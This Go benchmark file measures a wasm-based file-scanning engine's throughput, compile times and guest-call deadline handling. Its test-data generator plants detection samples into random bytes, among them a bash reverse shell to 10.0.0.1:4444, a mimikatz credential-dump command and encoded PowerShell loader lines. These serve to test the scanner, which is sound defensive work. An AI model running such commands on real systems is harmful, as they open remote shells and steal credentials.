package engine

// Benchmarks of the deadline mechanisms for guest calls (RATIONALE.md, "The
// wasm runtime and deadlines inside guest calls"; figures in BENCHMARKS.md).
// Run them in one go so that the ratios are comparable:
//
//	go test -run '^$' -bench . -benchtime 3x ./engine/
//
// Every benchmark has one sub-benchmark per candidate. They fail on wrong
// behaviour (a call that misses its deadline by more than a second, a module
// that fails) but never on speed.

import (
	"context"
	"io"
	"log/slog"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"slices"
	"sync"
	"testing"
	"time"

	"athena/internal/core"
)

const (
	benchChunk  = 64 << 10 // bytes per Feed, as the gateway sends them
	benchFile   = 16 << 20 // one file of the per-module benchmarks
	benchStream = 64 << 20 // the engine benchmark's stream
)

// benchData returns size pseudo-random bytes (fixed seed) and, when planted,
// the same bytes with a pattern of the built-in rules every 32 KiB.
func benchData(size int, planted bool) []byte {
	b := make([]byte, size)
	rand.NewChaCha8([32]byte{'a', 't', 'h', 'e', 'n', 'a'}).Read(b)
	if !planted {
		return b
	}
	plants := [][]byte{
		[]byte("powershell -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
		[]byte("IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))"),
		[]byte(`Set sh = CreateObject("WScript.Shell")`),
		[]byte("mimikatz # sekurlsa::logonpasswords"),
		[]byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
		[]byte("\x7fELF\x02\x01\x01\x00"),
		slices.Concat([]byte("MZ\x90\x00"), make([]byte, 72), []byte("This program cannot be run in DOS mode.")),
	}
	for i, off := 0, 1000; off+256 < size; i, off = i+1, off+32<<10 {
		copy(b[off:], plants[i%len(plants)])
	}
	return b
}

var (
	dataOnce                sync.Once
	randomData, plantedData []byte
)

// streams returns the random and planted streams of benchStream bytes.
func streams() (random, planted []byte) {
	dataOnce.Do(func() {
		randomData, plantedData = benchData(benchStream, false), benchData(benchStream, true)
	})
	return randomData, plantedData
}

// benchEngine starts an engine on the built-in modules (or dirs) for one
// candidate, with a compilation cache of its own.
func benchEngine(b *testing.B, c candidate, dirs ...string) *Engine {
	b.Helper()
	if len(dirs) == 0 {
		dirs = []string{builtinDir}
	}
	cfg := c.config(dirs...)
	cfg.CacheDir = filepath.Join(cacheDir, "bench-"+c.name)
	cfg.Logger = slog.New(slog.DiscardHandler)
	return newEngine(b, cfg)
}

// BenchmarkModuleFeed is one module's throughput on one 16 MiB file fed in
// 64 KiB chunks through a pooled instance (begin, feeds, finish).
func BenchmarkModuleFeed(b *testing.B) {
	random, planted := streams()
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			e := benchEngine(b, c)
			for _, name := range []string{"patterns", "filetype", "lines"} {
				for _, data := range []struct {
					name  string
					bytes []byte
				}{{"random", random[:benchFile]}, {"planted", planted[:benchFile]}} {
					b.Run(name+"/"+data.name, func(b *testing.B) {
						g := newGuest(b, e, name)
						defer g.release()
						found := 0
						ctx := withSink(context.Background(), func([]byte) { found++ })
						b.SetBytes(int64(len(data.bytes)))
						b.ResetTimer()
						for range b.N {
							g.file(b, ctx, data.bytes, benchChunk)
						}
						b.ReportMetric(float64(found)/float64(b.N), "findings/op")
					})
				}
			}
		})
	}
}

// BenchmarkEngine64MiB is the engine's throughput on one 64 MiB stream
// (random bytes with planted patterns) through all built-in modules, with
// the p99 and the maximum of single guest calls. "hash-only" is an engine
// without modules: the host's four hashes alone.
func BenchmarkEngine64MiB(b *testing.B) {
	_, data := streams()
	runs := append([]candidate{{name: "hash-only", runtime: "wazy", interruptible: true}}, candidates...)
	runs = append(runs, candidate{name: "wazy-serial-hash", runtime: "wazy", interruptible: true})
	for _, c := range runs {
		b.Run(c.name, func(b *testing.B) {
			serialHash = c.name == "wazy-serial-hash"
			defer func() { serialHash = false }()
			var e *Engine
			if c.name == "hash-only" {
				e = benchEngine(b, c, b.TempDir())
			} else {
				e = benchEngine(b, c)
			}
			times := timeCalls(e)
			failed := 0
			emit := func(ev core.Event) {
				if ev.Finding != nil && ev.Finding.Kind == core.KindAnalysisFailed {
					failed++
					b.Errorf("module failed: %+v", *ev.Finding)
				}
			}
			b.SetBytes(int64(len(data)))
			b.ResetTimer()
			for range b.N {
				j, err := e.NewJob(context.Background(), core.FileMeta{Name: "stream.bin", Size: int64(len(data))}, emit)
				if err != nil {
					b.Fatal(err)
				}
				for off := 0; off < len(data); off += benchChunk {
					j.Feed(data[off:min(off+benchChunk, len(data))])
				}
				if _, err := j.Finish(); err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			if c.name == "hash-only" {
				return
			}
			all := times.all()
			b.ReportMetric(percentile(all, 0.99), "p99-ms")
			b.ReportMetric(percentile(all, 1), "max-ms")
			for name, d := range times.byModule() {
				b.Logf("%s: %d calls, p50 %.2f ms, p99 %.2f ms, max %.2f ms", name, len(d),
					percentile(d, 0.5), percentile(d, 0.99), percentile(d, 1))
			}
		})
	}
}

// percentile returns the p-quantile of d in milliseconds (nearest rank).
func percentile(d []time.Duration, p float64) float64 {
	if len(d) == 0 {
		return 0
	}
	s := slices.Clone(d)
	slices.Sort(s)
	i := min(len(s)-1, max(0, int(p*float64(len(s))+0.5)-1))
	return float64(s[i]) / 1e6
}

// BenchmarkCompile is compiling one module with no cache ("cold") against
// loading it from a warm on-disk compilation cache ("cached"), each time
// in a fresh runtime as at process start.
func BenchmarkCompile(b *testing.B) {
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			newRT, err := lookupAdapter(c.runtime)
			if err != nil {
				b.Fatal(err)
			}
			for _, name := range []string{"patterns", "filetype", "lines"} {
				wasm, err := os.ReadFile(filepath.Join(builtinDir, name+".wasm"))
				if err != nil {
					b.Fatal(err)
				}
				dir := b.TempDir()
				compile := func(b *testing.B, cacheDir string) {
					ctx := context.Background()
					rt, err := newRT(ctx, runtimeConfig{memoryPages: 1024, interruptible: c.interruptible, cacheDir: cacheDir})
					if err != nil {
						b.Fatal(err)
					}
					defer rt.close(ctx)
					if _, err := rt.compile(ctx, wasm); err != nil {
						b.Fatal(err)
					}
				}
				compile(b, dir) // warm the cache
				b.Run(name+"/cold", func(b *testing.B) {
					for range b.N {
						compile(b, "")
					}
					b.ReportMetric(float64(b.Elapsed())/1e6/float64(b.N), "ms/op")
				})
				b.Run(name+"/cached", func(b *testing.B) {
					for range b.N {
						compile(b, dir)
					}
					b.ReportMetric(float64(b.Elapsed())/1e6/float64(b.N), "ms/op")
				})
			}
		})
	}
}

// BenchmarkInstantiate is making a new instance of a compiled module (which
// runs _initialize) and closing it.
func BenchmarkInstantiate(b *testing.B) {
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			e := benchEngine(b, c)
			for _, name := range []string{"patterns", "filetype", "lines"} {
				b.Run(name, func(b *testing.B) {
					g := newGuest(b, e, name) // compiles a lazy module
					g.release()
					code := g.md.code
					ctx := context.Background()
					b.ResetTimer()
					for range b.N {
						w, err := code.instantiate(ctx, io.Discard)
						if err != nil {
							b.Fatal(err)
						}
						w.close(ctx)
					}
					b.ReportMetric(float64(b.Elapsed())/1e6/float64(b.N), "ms/op")
				})
			}
		})
	}
}

// BenchmarkReuse is a pooled instance serving an empty file: begin and
// finish, which reset the guest's state between files.
func BenchmarkReuse(b *testing.B) {
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			e := benchEngine(b, c)
			for _, name := range []string{"patterns", "filetype", "lines"} {
				b.Run(name, func(b *testing.B) {
					g := newGuest(b, e, name)
					defer g.release()
					ctx := withSink(context.Background(), func([]byte) {})
					b.ResetTimer()
					for range b.N {
						g.file(b, ctx, nil, benchChunk)
					}
				})
			}
		})
	}
}

// BenchmarkEngineReady is New with a warm compilation cache: loading the
// built-in modules and pre-warming the critical ones.
func BenchmarkEngineReady(b *testing.B) {
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			benchEngine(b, c) // warms the cache
			cfg := c.config(builtinDir)
			cfg.CacheDir = filepath.Join(cacheDir, "bench-"+c.name)
			cfg.Logger = slog.New(slog.DiscardHandler)
			ctx := context.Background()
			b.ResetTimer()
			for range b.N {
				e, err := New(ctx, cfg)
				if err != nil {
					b.Fatal(err)
				}
				b.StopTimer()
				e.Close(ctx)
				b.StartTimer()
			}
			b.ReportMetric(float64(b.Elapsed())/1e6/float64(b.N), "ready-ms")
		})
	}
}

// busyGuest returns a chaos instance in a file and the BUSY iterations that
// keep it busy for about d under this candidate.
func busyGuest(b *testing.B, e *Engine, d time.Duration) (*guest, int64) {
	g := newGuest(b, e, "chaos")
	g.begin(b, context.Background(), 0)
	return g, int64(busyRate(b, g, 100*time.Millisecond) * d.Seconds())
}

// BenchmarkBusyLoop is the chaos guest's tight loop (one compare, one load,
// one add per iteration), where the interruption checks cost the most.
func BenchmarkBusyLoop(b *testing.B) {
	const n = 20_000_000
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			e := benchEngine(b, c, chaosDir)
			g := newGuest(b, e, "chaos")
			defer g.release()
			g.begin(b, context.Background(), 0)
			b.ResetTimer()
			for range b.N {
				g.mustCall(b, context.Background(), "feed", busyArg(n))
			}
			b.ReportMetric(float64(b.Elapsed())/float64(b.N)/n, "ns/iter")
		})
	}
}

// BenchmarkDeadlineOvershoot is how long after its deadline (the chaos
// manifest's call_ms) a call returns when the guest has more work than that:
// about 5 s for interruptible candidates, which must return within a second
// of the deadline, and about 1 s for the other, which runs the call to its
// end.
func BenchmarkDeadlineOvershoot(b *testing.B) {
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			e := benchEngine(b, c, chaosDir)
			work := time.Second
			if c.interruptible {
				work = 5 * time.Second
			}
			g, n := busyGuest(b, e, work)
			g.release()
			timeout := time.Duration(moduleNamed(b, e, "chaos").man.Limits.CallMillis) * time.Millisecond
			var over []time.Duration
			b.ResetTimer()
			for range b.N {
				b.StopTimer()
				g := newGuest(b, e, "chaos")
				g.begin(b, context.Background(), 0)
				b.StartTimer()
				ctx, cancel := context.WithTimeout(context.Background(), timeout)
				deadline, _ := ctx.Deadline()
				_, err := g.call(ctx, "feed", busyArg(n))
				returned := time.Now()
				cancel()
				over = append(over, returned.Sub(deadline))
				switch {
				case returned.Before(deadline):
					b.Errorf("the BUSY work ended %v before the deadline: its calibration is off", deadline.Sub(returned))
				case c.interruptible && err == nil:
					b.Errorf("call returned no error %v after its deadline, want it interrupted", returned.Sub(deadline))
				case c.interruptible && returned.Sub(deadline) > time.Second:
					b.Errorf("call returned %v after its deadline, want within 1s", returned.Sub(deadline))
				case !c.interruptible && err != nil:
					b.Errorf("call failed: %v, want it to run to its end", err)
				}
				if err != nil {
					g.discard()
				} else {
					g.release()
				}
			}
			b.StopTimer()
			b.ReportMetric(percentile(over, 0.5), "overshoot-ms")
			b.ReportMetric(percentile(over, 1), "max-overshoot-ms")
		})
	}
}

// BenchmarkGCWhileGuestSpins is runtime.GC() called from another goroutine
// 100 ms into a guest call that spins for about a second with no deadline.
// A guest the Go scheduler cannot preempt holds the collection up until the
// call ends.
func BenchmarkGCWhileGuestSpins(b *testing.B) {
	for _, c := range candidates {
		b.Run(c.name, func(b *testing.B) {
			e := benchEngine(b, c, chaosDir)
			g, n := busyGuest(b, e, time.Second)
			defer g.release()
			var gc, call []time.Duration
			b.ResetTimer()
			for range b.N {
				done := make(chan error)
				start := time.Now()
				go func() {
					_, err := g.call(context.Background(), "feed", busyArg(n))
					done <- err
				}()
				time.Sleep(100 * time.Millisecond)
				gcStart := time.Now()
				runtime.GC()
				gc = append(gc, time.Since(gcStart))
				if err := <-done; err != nil {
					b.Fatalf("BUSY call: %v", err)
				}
				call = append(call, time.Since(start))
			}
			b.StopTimer()
			b.ReportMetric(percentile(gc, 0.5), "gc-ms")
			b.ReportMetric(percentile(gc, 1), "max-gc-ms")
			b.ReportMetric(percentile(call, 0.5), "call-ms")
		})
	}
}

// BenchmarkStuckCall is the watchdog of candidates without interruption: a
// guest call that outlives its deadline, and when Healthy reports it. The
// host ends the BUSY loop once Healthy is false (or after 6 s of work).
func BenchmarkStuckCall(b *testing.B) {
	for _, c := range candidates {
		if c.interruptible {
			continue
		}
		b.Run(c.name, func(b *testing.B) {
			cfg := c.config(chaosDir)
			cfg.Concurrency = 1
			cfg.CacheDir = filepath.Join(cacheDir, "bench-"+c.name)
			cfg.Logger = slog.New(slog.DiscardHandler)
			e := newEngine(b, cfg)
			g, n := busyGuest(b, e, 6*time.Second)
			g.release() // the jobs below take this instance
			// A collection would wait for the stuck call and stall the
			// polling below with it.
			runtime.GC()
			defer debug.SetGCPercent(debug.SetGCPercent(-1))
			var after []time.Duration
			b.ResetTimer()
			for range b.N {
				j, err := e.NewJob(context.Background(), core.FileMeta{Name: "busy", Size: -1}, nil)
				if err != nil {
					b.Fatal(err)
				}
				done := make(chan struct{})
				go func() {
					j.Feed(busyArg(n))
					close(done)
				}()
				var deadline time.Time
				for deadline.IsZero() {
					select {
					case <-done:
						b.Fatalf("the call returned at once")
					default:
					}
					e.mu.Lock()
					for w := range e.inflight {
						deadline = w.deadline
					}
					e.mu.Unlock()
					time.Sleep(time.Millisecond)
				}
			poll:
				for {
					select {
					case <-done:
						b.Fatalf("the call returned and Healthy never turned false")
					case <-time.After(5 * time.Millisecond):
						if ok, _ := e.Healthy(); !ok {
							after = append(after, time.Since(deadline))
							e.mu.Lock()
							if len(e.inflight) > 0 {
								g.stopBusy()
							}
							e.mu.Unlock()
							break poll
						}
					}
				}
				<-done
				if _, err := j.Finish(); err != nil {
					b.Fatal(err)
				}
				if ok, info := e.Healthy(); !ok {
					b.Fatalf("unhealthy after the call returned: %s", info)
				}
			}
			b.StopTimer()
			b.ReportMetric(percentile(after, 0.5), "unhealthy-after-deadline-ms")
		})
	}
}

// callTimes records how long guest calls take, by module; alloc calls are
// left out.
type callTimes struct {
	mu sync.Mutex
	d  map[string][]time.Duration
}

func (t *callTimes) add(module string, d time.Duration) {
	t.mu.Lock()
	t.d[module] = append(t.d[module], d)
	t.mu.Unlock()
}

func (t *callTimes) byModule() map[string][]time.Duration {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.d
}

func (t *callTimes) all() []time.Duration {
	var all []time.Duration
	for _, d := range t.byModule() {
		all = append(all, d...)
	}
	return all
}

// timeCalls makes e's modules record their guest calls from now on.
func timeCalls(e *Engine) *callTimes {
	times := &callTimes{d: map[string][]time.Duration{}}
	for _, md := range e.modules {
		name := md.man.Name
		md.mu.Lock()
		newRT := md.newRT
		md.newRT = func(ctx context.Context, cfg runtimeConfig) (wasmRuntime, error) {
			rt, err := newRT(ctx, cfg)
			if err != nil {
				return nil, err
			}
			return timedRuntime{rt, name, times}, nil
		}
		if md.code != nil {
			md.code = timedCode{md.code, name, times}
		}
		for _, in := range md.idle {
			in.w = timedInstance{in.w, name, times}
		}
		md.mu.Unlock()
	}
	return times
}

type timedRuntime struct {
	wasmRuntime
	module string
	times  *callTimes
}

func (r timedRuntime) compile(ctx context.Context, wasm []byte) (wasmCode, error) {
	code, err := r.wasmRuntime.compile(ctx, wasm)
	if err != nil {
		return nil, err
	}
	return timedCode{code, r.module, r.times}, nil
}

type timedCode struct {
	wasmCode
	module string
	times  *callTimes
}

func (c timedCode) instantiate(ctx context.Context, stderr io.Writer) (wasmInstance, error) {
	w, err := c.wasmCode.instantiate(ctx, stderr)
	if err != nil {
		return nil, err
	}
	return timedInstance{w, c.module, c.times}, nil
}

type timedInstance struct {
	wasmInstance
	module string
	times  *callTimes
}

func (i timedInstance) call(ctx context.Context, export string, args ...uint32) (uint32, error) {
	start := time.Now()
	r, err := i.wasmInstance.call(ctx, export, args...)
	if export != "alloc" {
		i.times.add(i.module, time.Since(start))
	}
	return r, err
}
